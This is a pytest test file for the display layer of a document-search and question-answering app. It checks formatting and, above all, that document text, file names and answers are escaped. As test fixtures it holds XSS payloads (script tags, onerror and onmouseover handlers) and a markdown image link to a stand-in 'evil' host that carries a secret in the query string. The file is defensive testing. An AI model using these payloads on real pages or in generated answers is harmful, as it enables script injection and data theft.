"""Formatting: what people read, and that nothing of a document is taken for markup."""

from __future__ import annotations

import re
from datetime import UTC, datetime
from html import unescape
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag.replies.documents import (
    Answer,
    Citation,
    Classification,
    Document,
    Entity,
    Grounding,
    Label,
    Mention,
    Page,
    Result,
    SentenceCheck,
    Stage,
    Word,
)
from ui import marked, ranking, view

ATTACK = "<script>alert(1)</script><img src=x onerror=alert(1)>\" onmouseover='alert(1)"
NOW = datetime(2026, 3, 4, 15, 0, tzinfo=UTC)


def plain(html: str) -> str:
    """The characters that a browser would show."""
    return unescape(re.sub(r"<[^>]*>", "", html))


def entity(text: str, kind: str, *spans: tuple[int, int], page: int = 1) -> Entity:
    return Entity(text, kind, len(spans), tuple(Mention(page, start, end) for start, end in spans))


# Words and numbers


@pytest.mark.parametrize(
    ("count", "text"),
    [(0, "0 B"), (999, "999 B"), (1200, "1.2 kB"), (82_400, "82 kB"), (999_800, "1.0 MB"), (3_100_000_000, "3.1 GB")],
)
def test_sizes_are_for_people(count: int, text: str) -> None:
    assert view.size(count) == text


@pytest.mark.parametrize(
    ("value", "text"), [(None, ""), (0.012, "12 ms"), (3.14, "3.1 s"), (42, "42 s"), (300, "5 min")]
)
def test_seconds_are_rounded_to_what_matters(value: float | None, text: str) -> None:
    assert view.seconds(value) == text


@pytest.mark.parametrize(
    ("moment", "text"),
    [
        (datetime(2026, 3, 4, 14, 59, 30, tzinfo=UTC), "just now"),
        (datetime(2026, 3, 4, 14, 48, tzinfo=UTC), "12 min ago"),
        (datetime(2026, 3, 4, 9, 5, tzinfo=UTC), "today 09:05"),
        (datetime(2025, 12, 31, 9, 5, tzinfo=UTC), "31 Dec 2025"),
        (datetime(2026, 3, 4, 14, 48), "12 min ago"),
    ],
)
def test_moments_are_near_or_dated(moment: datetime, text: str) -> None:
    assert view.when(moment, NOW) == text


def test_label_disarms_every_markdown_construct() -> None:
    name = "![x](http://evil) :red[hot] $a$ `b` **c** <b>\nnext"
    shown = view.label(name)
    assert re.sub(r"\\(.)", r"\1", shown) == " ".join(name.split())
    assert not re.search(r"(?<!\\)[!\[\]()*`$:<>_#]", shown)


# Links


def test_link_and_spans_are_inverse() -> None:
    marked_spans = [(3, 17), (20, 25)]
    params = view.link_params("d1", 2, marked_spans)
    assert params == {"document": "d1", "page": "2", "highlight": "3-17,20-25"}
    assert view.spans(params["highlight"]) == marked_spans


@pytest.mark.parametrize("text", ["", "5-3", "4-4", "a-b", "-1-5", "1-2-3", "9999999999-10000000000", "<script>"])
def test_what_is_no_span_is_left_out(text: str) -> None:
    assert view.spans(text) == []


def test_link_encodes_the_id() -> None:
    assert view.link("a&page=9", 1) == "document?document=a%26page%3D9&page=1"


# Progress


def test_progress_counts_the_pages_read() -> None:
    stages = {"read": Stage("running", done=3, total=12)}
    assert view.progress(Document("d", status="reading", stages=stages)) == pytest.approx(0.125)


def test_progress_after_reading_counts_stages_that_are_over() -> None:
    stages = {"read": Stage("done"), "entities": Stage("done"), "classify": Stage("failed"), "index": Stage("running")}
    assert view.progress(Document("d", status="analyzing", stages=stages)) == pytest.approx(0.7)


@pytest.mark.parametrize("status", ["ready", "partial", "failed"])
def test_progress_of_a_final_document_is_whole(status: str) -> None:
    assert view.progress(Document("d", status=status)) == 1.0


def test_steps_show_pages_while_reading_and_time_when_done() -> None:
    stages = {"read": Stage("running", done=3, total=12), "classify": Stage("done", 1.26), "summary": Stage("failed")}
    assert (
        plain(view.stages_html(Document("d", stages=stages))) == "Read3 of 12EntitiesType1.3 sIndexSummaryfailedFields"
    )


def test_a_file_name_cannot_write_markup_into_the_progress() -> None:
    html = view.progress_html(Document("d", filename=ATTACK, status="reading"))
    assert "<script" not in html
    assert "<img" not in html
    assert ATTACK in plain(html)


def test_an_unknown_status_cannot_write_into_its_class() -> None:
    assert view.status_html('x" onclick="y') == '<span class="rw-status rw-xonclicky">x&quot; onclick=&quot;y</span>'


def test_a_problem_shows_detail_and_remedy_escaped() -> None:
    html = view.problem_html("<b>bad</b>", "Do <this>.", title="a<b")
    assert plain(html) == "a<b <b>bad</b>Do <this>."
    assert "<this>" not in html


# A page's text


def test_entities_are_coloured_by_group_at_their_offsets() -> None:
    page = Page(1, text="Helena pays EUR 930.")
    html = marked.page_text_html(page, [entity("Helena", "PERSON", (0, 6)), entity("EUR 930", "MONEY", (12, 19))])
    assert '<span class="rw-e rw-e-person" title="Person">Helena</span>' in html
    assert '<span class="rw-e rw-e-money" title="Amount">EUR 930</span>' in html


def test_only_mentions_on_the_page_count() -> None:
    html = marked.page_text_html(Page(1, text="Helena"), [entity("Helena", "PERSON", (0, 6), page=2)])
    assert html == '<div class="rw-text">Helena</div>'


def test_a_marked_span_and_an_entity_may_overlap() -> None:
    html = marked.page_text_html(Page(1, text="abcdef"), [entity("abcd", "ORG", (0, 4))], [(2, 6)])
    assert re.findall(r"<mark[^>]*>(.*?)</mark>", html) == [
        '<span class="rw-e rw-e-org" title="Organisation">cd</span>',
        "ef",
    ]


def test_doubtful_words_are_underlined_and_sure_ones_are_not() -> None:
    words = (Word("ab", 0, 2, (0, 0, 1, 1), 0.3), Word("cd", 3, 5, (0, 0, 1, 1), 0.9))
    html = marked.page_text_html(Page(1, text="ab cd", words=words))
    assert re.findall(r'rw-doubt"[^>]*>(.*?)<', html) == ["ab"]


def test_document_text_is_escaped_inside_and_outside_entities() -> None:
    text = f"{ATTACK} & {ATTACK}"
    html = marked.page_text_html(Page(1, text=text), [entity("x", "<b>", (0, len(ATTACK)))], [(5, 20)])
    assert not re.search(r"<(?!/?(div|span|mark)\b)", html)
    assert plain(html) == text


@given(
    st.text(alphabet="ab<>&\"' \n", max_size=30),
    st.lists(st.tuples(st.integers(-5, 40), st.integers(-5, 40)), max_size=5),
    st.lists(st.tuples(st.integers(-5, 40), st.integers(-5, 40)), max_size=3),
)
def test_marking_never_changes_the_text(text: str, named: list[tuple[int, int]], marks: list[tuple[int, int]]) -> None:
    html = marked.page_text_html(Page(1, text=text), [entity("x", "ORG", *named)], marks)
    assert plain(html) == text


def test_legend_names_only_the_groups_of_the_page() -> None:
    found = [entity("a", "PERSON", (0, 1)), entity("b", "GPE", (0, 1), page=2), entity("c", "DATE", (2, 3))]
    assert plain(marked.legend_html(found, 1)) == "PeopleDates"


def test_an_unknown_entity_type_is_shown_by_its_own_name() -> None:
    assert marked.entity_group("CASE_NUMBER") == ("other", "Case number")


# Answers

CITED = Citation(1, "d1", 2, 10, 20, filename='lease".pdf')


def test_a_marker_links_to_the_cited_words() -> None:
    html = view.answer_html("The rent is due [1].", [CITED])
    assert 'href="document?document=d1&amp;page=2&amp;highlight=10-20"' in html
    assert 'title="lease&quot;.pdf, page 2"' in html
    assert plain(html) == "The rent is due 1."


def test_a_marker_without_its_citation_is_no_link() -> None:
    assert "<a " not in view.answer_html("The rent is due [7].", [CITED])


def test_unsupported_sentences_are_marked_with_what_is_missing() -> None:
    checks = [SentenceCheck("Rent is due."), SentenceCheck("It is 5.", supported=False, missing=("5",))]
    html = view.answer_html("Rent is due. It is 5. Truly.", [], checks)
    assert re.findall(r'<span class="rw-unsupported" title="([^"]*)">(.*?)</span>', html) == [
        ("Not supported by the passages; they do not hold: 5", "It is 5.")
    ]
    assert plain(html) == "Rent is due. It is 5. Truly."


def test_a_checked_sentence_that_is_not_in_the_answer_changes_nothing() -> None:
    html = view.answer_html("Yes.", [], [SentenceCheck("No.", supported=False)])
    assert html == '<div class="rw-answer">Yes.</div>'


def test_a_draft_is_told_from_an_answer() -> None:
    assert view.answer_html("Yes.", writing=True).startswith('<div class="rw-answer rw-draft">Yes.')


def test_an_answer_cannot_bring_markup_or_pictures() -> None:
    html = view.answer_html(f"{ATTACK} ![p](http://evil/?q=secret) [1]", [CITED])
    assert not re.search(r"<(?!/?(div|a)\b)", html)
    assert "http" not in re.sub(r">[^<]*<", "><", html)


@pytest.mark.parametrize(
    ("answer", "line"),
    [
        (Answer(found=False), "Not in your documents"),
        (Answer(citations=(CITED, CITED)), "Supported by 1 document"),
        (Answer(kind="counted"), "Counted exactly in the library"),
        (
            Answer(grounding=Grounding(False, 0.2, ("a",), (SentenceCheck("a", supported=False),))),
            "1 sentence not supported by your documents",
        ),
    ],
)
def test_support_says_what_an_answer_rests_on(answer: Answer, line: str) -> None:
    assert view.support(answer) == line


def test_a_long_quote_ends_at_a_word() -> None:
    assert plain(view.quote_html("alpha beta gamma delta", longest=14)) == "alpha beta…"


# Search


def test_query_words_are_strong_and_the_rest_is_escaped() -> None:
    assert ranking.emphasised("The <Rent> & rental", "rent <b>") == "The &lt;<strong>Rent</strong>&gt; &amp; rental"


def test_a_query_of_operators_is_no_pattern() -> None:
    assert ranking.emphasised("a (b", "((( .* [") == "a (b"


def test_scores_are_relative_to_the_best_of_their_kind() -> None:
    first, second = (
        Result("d", 1, 0, 1, score=0.04, dense=0.8, dense_rank=1),
        Result("d", 1, 0, 1, score=0.01, lexical=7.5, lexical_rank=1),
    )
    html = ranking.ranks_html(second, ranking.best_scores([first, second]))
    assert re.findall(r"width:(\d+)", html) == ["25", "0", "100"]
    assert plain(html) == "Fused0.01Dense–Lexical7.5 #1"


# Facts


def test_bars_are_longest_first() -> None:
    html = view.bars_html({"a": 1, "b<": 4})
    assert plain(html) == "b<4a1"
    assert re.findall(r"width:(\d+)", html) == ["100", "25"]


def test_type_scores_are_percentages() -> None:
    found = Classification("lease", 0.8, (Label("lease", 0.8), Label("letter", 0.2)))
    assert plain(view.classification_html(found)) == "lease80%letter20%"


def test_facts_leave_out_what_is_empty() -> None:
    assert plain(view.facts_html({"Pages": None, "Language": "en", "Note": "<i>"})) == "LanguageenNote<i>"


def test_meta_tells_a_document_in_one_line() -> None:
    document = Document(
        "d",
        media_type="application/pdf",
        size=82_400,
        page_count=4,
        created_at=datetime(2020, 1, 2, tzinfo=UTC),
        classification=Classification("contract", 0.9),
    )
    assert view.meta(document) == "Contract · 4 pages · PDF, 82 kB · 2 Jan 2020"


def test_the_stylesheet_loads_nothing_from_elsewhere() -> None:
    folder = Path(view.__file__).parent
    texts = [(folder / name).read_text() for name in ("style.css", ".streamlit/config.toml")]
    assert [re.findall(r"url\(|@import|https?://", text) for text in texts] == [[], []]


def test_a_poor_reading_says_how_poor_and_what_to_do() -> None:
    html = view.poorly_read_html(0.54)
    assert "54%" in html
    assert "check these words against the picture" in html


def test_pictures_and_pdfs_have_pages_to_search() -> None:
    assert [view.has_pictures(kind) for kind in ("application/pdf", "image/png", "text/plain")] == [True, True, False]
